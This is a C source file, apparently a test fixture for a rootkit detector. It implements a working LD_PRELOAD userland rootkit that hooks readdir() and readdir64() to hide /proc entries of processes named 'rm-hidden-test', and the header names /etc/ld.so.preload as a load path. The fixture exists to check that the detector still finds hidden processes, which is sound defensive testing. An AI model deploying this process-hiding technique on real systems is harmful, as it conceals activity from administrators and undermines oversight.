/*
 * libhideproc.so - a small userland rootkit for the tests, in the manner
 * of libprocesshider: preloaded (LD_PRELOAD or /etc/ld.so.preload) it
 * replaces readdir() and readdir64() and drops the /proc/PID entries of
 * processes whose name (comm) starts with "rm-hidden-test", so ps, top
 * and ls /proc stop showing them.  It hides nothing else and changes no
 * file.  tests/e2e/35-hidden-process.sh loads it only inside a private
 * mount namespace with its own /etc/ld.so.preload; rookmelder must still
 * see the process (raw getdents64) and name readdir among the hooks.
 */
#include <dirent.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#define HIDE_PREFIX "rm-hidden-test"

/* Is entry name of the directory d a /proc/PID of a hidden process? */
static int
hidden(DIR *d, const char *name)
{
	char path[64], comm[64], dirpath[64];
	ssize_t n;
	int fd;

	if (name[0] < '1' || name[0] > '9')
		return 0;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", dirfd(d));
	n = readlink(path, dirpath, sizeof(dirpath) - 1);
	if (n < 0)
		return 0;
	dirpath[n] = '\0';
	if (strcmp(dirpath, "/proc") != 0)
		return 0;
	snprintf(path, sizeof(path), "/proc/%.20s/comm", name);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return 0;
	n = read(fd, comm, sizeof(comm) - 1);
	close(fd);
	if (n <= 0)
		return 0;
	comm[n] = '\0';
	return strncmp(comm, HIDE_PREFIX, strlen(HIDE_PREFIX)) == 0;
}

struct dirent *
readdir(DIR *d)
{
	static struct dirent *(*next)(DIR *);
	struct dirent *e;

	if (next == NULL)
		next = (struct dirent *(*)(DIR *))dlsym(RTLD_NEXT, "readdir");
	while ((e = next(d)) != NULL && hidden(d, e->d_name))
		;
	return e;
}

struct dirent64 *
readdir64(DIR *d)
{
	static struct dirent64 *(*next)(DIR *);
	struct dirent64 *e;

	if (next == NULL)
		next = (struct dirent64 *(*)(DIR *))dlsym(RTLD_NEXT,
		    "readdir64");
	while ((e = next(d)) != NULL && hidden(d, e->d_name))
		;
	return e;
}
